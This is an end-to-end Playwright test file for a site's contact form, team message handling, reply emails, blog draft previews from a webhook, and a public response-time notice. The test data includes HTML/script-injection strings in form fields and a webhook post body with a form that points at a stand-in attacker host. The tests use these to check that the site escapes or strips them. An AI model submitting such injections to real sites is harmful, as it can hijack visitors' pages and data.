import assert from "node:assert/strict";
import { expect } from "@playwright/test";
import { exampleKey, withMac } from "../fixtures/storychief-vectors.ts";
import { type Site, test, waitForEmail } from "./journey.ts";
import { expectFits, signIn, signInByEmail, teamMember } from "./team-sign-in.ts";

async function writeToTheTeam(site: Site, sender: string): Promise<void> {
  const page = await site.openPage();
  await page.goto(`${site.origin}/contact`);
  await page.locator("#name").fill("Mary <b>Shelley</b>");
  await page.locator("#email").fill(sender);
  await page.locator("#reason").selectOption("feedback");
  await page.locator("#message").fill("Could the newsletter keep\nmy <script>footnotes</script>?");
  await page.getByRole("button", { name: "Send Message" }).click();
  await page.getByRole("heading", { name: "Thank you for writing" }).waitFor();
}

test("a message is answered from its email, through the sign-in, to the sender’s thread", async ({ site }) => {
  const sender = "thread@example.org";
  await writeToTheTeam(site, sender);
  const toTeam = await waitForEmail(site, ({ replyTo }) => replyTo?.some(({ address }) => address === sender) ?? false);
  const isToSender = ({ to }: { to?: { address?: string }[] }) =>
    to?.some(({ address }) => address === sender) ?? false;
  const confirmation = await waitForEmail(site, isToSender);

  const page = await site.openPage({ width: 390, height: 844 });
  const [link = ""] = /http\S+\/team\/messages\/[\w-]+/.exec(toTeam.text ?? "") ?? [];
  await page.goto(link);
  await signInByEmail(site, page);
  await page.getByRole("heading", { name: "Mary <b>Shelley</b>" }).waitFor();
  await page.waitForURL(link);
  await page.getByText("my <script>footnotes</script>?").waitFor();
  await expectFits(site, page);

  await page.getByLabel("Your answer").fill("It will.\n\nAda");
  await page.getByRole("button", { name: "Send the answer" }).click();
  await page.getByRole("status").getByText("on its way").waitFor();
  const answer = await waitForEmail(site, (mail) => isToSender(mail) && mail.messageId !== confirmation.messageId);
  assert.equal(answer.inReplyTo, confirmation.messageId);
  assert.equal(answer.references, confirmation.messageId);
  assert.equal(answer.replyTo?.[0]?.address, teamMember);
  assert.match(answer.text ?? "", /^It will\.\n\nAda\n\n[\s\S]+> my <script>footnotes<\/script>\?/);

  await expect
    .poll(() => site.query("select from site.outbox where kind = 'message/answer-email' and outcome = 'delivered'"))
    .toHaveLength(1);
  await page.reload();
  await page.getByText("Handed over").waitFor();
  await expectFits(site, page);
  await page.getByRole("navigation", { name: "Team" }).getByRole("link", { name: "Messages" }).click();
  await page.getByRole("link", { name: /^Answered \(\d+\)$/ }).click();
  await page.getByRole("link", { name: "Mary <b>Shelley</b>: Feedback" }).waitFor();
  await expectFits(site, page);
});

test("on a wide screen: who answers, a note, answered elsewhere, and the draft of a post in its preview", async ({
  site,
}) => {
  // Those of earlier files would push this one to the next page.
  await site.query("delete from public.contact_submissions");
  await writeToTheTeam(site, "elsewhere@example.org");
  const page = await site.openPage({ width: 1440, expectedErrors: /404/ });
  await signIn(site, page);
  await page.goto(`${site.origin}/team/messages`);
  await expectFits(site, page);
  await page.getByRole("link", { name: "Mary <b>Shelley</b>: Feedback" }).last().click();
  await page.getByLabel("Who answers").selectOption(teamMember);
  await page.getByRole("button", { name: "Assign" }).click();
  await page.getByRole("status").getByText("Assigned.").waitFor();
  await page.getByLabel("A note").fill("She called.");
  await page.getByRole("button", { name: "Add the note" }).click();
  await page.getByText("She called.").waitFor();
  await page.getByRole("button", { name: "Answered elsewhere" }).click();
  await page.getByRole("status").getByText("Marked.").waitFor();
  await expectFits(site, page);

  const delivery = {
    meta: { event: "publish", status: "draft" },
    data: {
      storychief_id: 950_001,
      title: "An unfinished thought",
      seo_slug: "an-unfinished-thought",
      content: "<p>Half of it.</p><form action='https://evil.example'><input name='q'></form>",
    },
  };
  const stored = await fetch(`${site.origin}/api/blog/webhook`, {
    method: "POST",
    headers: { "content-type": "application/json" },
    body: withMac(JSON.stringify(delivery), exampleKey),
  });
  assert.equal(stored.status, 200, await stored.text());

  await page.goto(`${site.origin}/team/posts`);
  await page
    .getByText(/^Taken out/)
    .first()
    .waitFor();
  await expectFits(site, page);
  await page.getByRole("link", { name: "An unfinished thought" }).first().click();
  await page.getByRole("heading", { name: "An unfinished thought", level: 1 }).waitFor();
  await expectFits(site, page);
  const url = await page.getByLabel("The link, to copy").inputValue();
  const reader = await site.openPage({ expectedErrors: /404/ });
  const preview = await reader.goto(url);
  await reader.getByText("Half of it.").waitFor();
  assert.equal(preview?.headers()["cache-control"], "no-store");
  assert.equal(preview?.headers()["x-robots-tag"], "noindex");
  assert.equal((await reader.goto(`${site.origin}/blog/an-unfinished-thought`))?.status(), 404);

  await page.getByText("Delete the post…").click();
  await page.getByRole("button", { name: "Delete the post" }).click();
  await page.getByRole("status").getByText("The post is deleted").waitFor();
  assert.equal((await reader.goto(url))?.status(), 404);
});

test("an owner has the contact page say how fast answers come, and takes it back", async ({ site }) => {
  await site.query(
    `with message as (
       insert into public.contact_submissions (name, email, use_case, message, created_at)
       select 'Many', 'many@answers.example', 'media', 'Message number ' || n, now() - interval '4 hours' from generate_series(1, 30) as n returning id
     ) insert into site.message_states (message_id, state, answered_at) select id, 'answered', now() - interval '50 minutes' from message`,
  );
  const sentence = "half of our answers came within 4 hours";
  const page = await site.openPage({ width: 390, height: 844 });
  await signIn(site, page);
  const reader = await site.openPage({ width: 390, height: 844, javaScript: false });
  const isSaid = async () => {
    await reader.goto(`${site.origin}/contact`);
    return reader.getByText(sentence).count();
  };
  assert.equal(await isSaid(), 0);
  await page.goto(`${site.origin}/team/messages`);
  await page.getByText(`It could say: “Over the last 30 days, ${sentence}.”`).waitFor();
  await page.getByRole("button", { name: "Say it on the contact page" }).click();
  await page.getByText("It says:").waitFor();
  await expectFits(site, page);
  await expect.poll(isSaid).toBe(1);
  const visitor = await site.openPage({ width: 1440 });
  await visitor.goto(`${site.origin}/contact`);
  await visitor.getByText(sentence).waitFor();
  await site.expectAccessible(visitor);
  await page.getByRole("button", { name: "Say it no more" }).click();
  await expect.poll(isSaid).toBe(0);
  await site.query("delete from public.contact_submissions where email = 'many@answers.example'");
});
